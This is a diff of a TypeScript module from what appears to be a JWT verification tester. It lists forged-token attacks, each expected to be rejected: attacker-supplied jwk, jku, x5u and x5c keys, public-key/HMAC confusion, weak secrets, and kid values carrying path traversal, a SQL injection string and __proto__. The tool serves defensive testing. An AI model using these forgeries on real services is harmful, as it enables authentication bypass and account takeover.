@@ -1,49 +1,54 @@
 /** Attacks on the choice of the key: it comes from the attacker, or is mistaken for another (RFC 8725 §2.1, §3.10). */
-import { generateKeyPairSync } from 'node:crypto';
 import { type Attack, withToken } from './attack.js';
-import { type Forge, hmacSigned } from './forge.js';
-import { signedWith } from './signature.js';
+import { byAttacker, type Forge, hmacSigned } from './forge.js';
+import type { LureName } from './lures.js';
 
 /** The attacks. */
 export const ON_KEYS: readonly Attack[] = [
-  key('own-key', 'The key is not checked: any passes.', (forge) => byAttacker(forge, {})),
+  key('own-key', 'The key is not checked: any passes.', (forge) =>
+    byAttacker(forge, forge.attacker.key, { kid: forge.header['kid'] }),
+  ),
   key('embedded-jwk', 'The key in the token is believed (CVE-2018-0114).', (forge) =>
-    byAttacker(forge, { jwk: OWN.jwk }),
+    byAttacker(forge, forge.attacker.key, { jwk: forge.attacker.key.jwk }),
   ),
-  key('jku', 'The link in the token is followed to a key (RFC 8725 §3.10).', (forge) =>
-    byAttacker(forge, { jku: 'https://attacker.invalid/jwks.json' }),
+  link('jku', 'The link in the token is followed to a key (RFC 8725 §3.10).', (jku) => ({ jku })),
+  link('jku-https', 'The link in the token is followed to a key (RFC 8725 §3.10).', (jku) => ({ jku })),
+  link('x5u', 'The link in the token is followed to a certificate (RFC 8725 §3.10).', (x5u) => ({ x5u })),
+  link('x5u-https', 'The link in the token is followed to a certificate (RFC 8725 §3.10).', (x5u) => ({
+    x5u,
+  })),
+  link('kid-url', 'The key ID is followed as a link to a key (RFC 8725 §3.10).', (kid) => ({ kid })),
+  key('x5c', 'The certificate in the token is believed, whoever issued it.', (forge) =>
+    byAttacker(forge, forge.attacker.pair, {
+      x5c: forge.attacker.chain.certificates.map((der) => der.toString('base64')),
+    }),
   ),
-  key('x5u', 'The link in the token is followed to a certificate (RFC 8725 §3.10).', (forge) =>
-    byAttacker(forge, { x5u: 'https://attacker.invalid/cert.pem' }),
-  ),
-  key('x5c', 'The certificate in the token is believed.', (forge) => byAttacker(forge, { x5c: ['MIIB'] })),
-  key('public-key-as-secret', 'The public key is taken for a secret (CVE-2015-9235).', (forge) =>
-    confused(forge, (pem) => pem),
-  ),
-  key('public-key-as-secret-trimmed', 'The public key is taken for a secret (CVE-2015-9235).', (forge) =>
-    confused(forge, (pem) => pem.trim()),
-  ),
-  key('empty-secret', 'An empty secret verifies.', ({ header, claims }) =>
-    hmacSigned('', { ...header, alg: 'HS256' }, claims),
-  ),
-  ...['secret', 'changeme', 'your-256-bit-secret', 'password'].map((secret) =>
-    key(
-      `weak-secret-${secret}`,
-      `The secret is "${secret}", which stands in every list.`,
-      ({ header, claims }) => hmacSigned(secret, { ...header, alg: 'HS256' }, claims),
+  confused('public-key-as-secret', (pem) => pem),
+  confused('public-key-as-secret-trimmed', (pem) => pem.trim()),
+  key('empty-secret', 'An empty secret verifies.', (forge) => hmacSigned('', forge)),
+  ...[
+    'secret',
+    'changeme',
+    'password',
+    'your-256-bit-secret',
+    'your-384-bit-secret',
+    'your-512-bit-secret',
+  ].map((secret) =>
+    key(`weak-secret-${secret}`, `The secret is "${secret}", which stands in every list.`, (forge) =>
+      hmacSigned(secret, forge),
     ),
   ),
-  key('kid-path', 'The key ID is a path: /dev/null is an empty secret.', ({ header, claims }) =>
-    hmacSigned('', { ...header, alg: 'HS256', kid: '../../../../../../dev/null' }, claims),
+  key('kid-path', 'The key ID is a path: /dev/null is an empty secret.', (forge) =>
+    hmacSigned('', forge, { kid: '../../../../../../dev/null' }),
   ),
-  key('kid-sql', 'The key ID goes into a query.', ({ header, claims }) =>
-    hmacSigned('x', { ...header, alg: 'HS256', kid: "' UNION SELECT 'x' -- " }, claims),
+  key('kid-sql', 'The key ID goes into a query.', (forge) =>
+    hmacSigned('x', forge, { kid: "' UNION SELECT 'x' -- " }),
   ),
-  key('kid-prototype', 'The key ID finds what every object has.', ({ header, claims }) =>
-    hmacSigned('', { ...header, alg: 'HS256', kid: '__proto__' }, claims),
+  key('kid-prototype', 'The key ID finds what every object has.', (forge) =>
+    hmacSigned('', forge, { kid: '__proto__' }),
   ),
   key('kid-list', 'A key ID that is no text crashes the service or passes.', (forge) =>
-    byAttacker(forge, { kid: ['a'] }),
+    byAttacker(forge, forge.attacker.key, { kid: ['a'] }),
   ),
 ];
 
@@ -51,26 +56,26 @@ function key(name: string, why: string, token: (forge: Forge) => string | undefi
   return { name, group: 'key', why, expects: 'invalid token', request: (forge) => withToken(token(forge)) };
 }
 
-const OWN = ownKey();
-
-function ownKey() {
-  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
-  return { privateKey, jwk: publicKey.export({ format: 'jwk' }) };
+/** A token that points to the attacker's key: what is fetched there verifies it. */
+function link(
+  name: LureName,
+  why: string,
+  parameters: (address: string) => Readonly<Record<string, unknown>>,
+): Attack {
+  const token = (forge: Forge): string | undefined => {
+    const { attacker, lures } = forge;
+    const signer = name.startsWith('x5u') ? attacker.pair : attacker.key;
+    return lures && byAttacker(forge, signer, parameters(lures.address(name)));
+  };
+  return { ...key(name, why, token), lure: name, needs: 'a service on this machine' };
 }
 
-/** A token that the attacker has signed with a key of their own. */
-function byAttacker({ header, claims }: Forge, parameters: Readonly<Record<string, unknown>>): string {
-  const { kid: _kid, ...rest } = header;
-  return signedWith(
-    'ES256',
-    OWN.privateKey,
-    JSON.stringify({ ...rest, alg: 'ES256', ...parameters }),
-    JSON.stringify(claims),
-  );
-}
-
-function confused({ publicPem, header, claims }: Forge, secret: (pem: string) => string): string | undefined {
-  return publicPem === undefined
-    ? undefined
-    : hmacSigned(secret(publicPem), { ...header, alg: 'HS256' }, claims);
+/** A public key is known to everybody: taken for an HMAC secret, it lets everybody sign. */
+function confused(name: string, secret: (pem: string) => string): Attack {
+  const token = (forge: Forge): string | undefined =>
+    forge.publicPem === undefined ? undefined : hmacSigned(secret(forge.publicPem), forge);
+  return {
+    ...key(name, 'The public key is taken for a secret (CVE-2015-9235).', token),
+    needs: 'a public key: --key',
+  };
 }
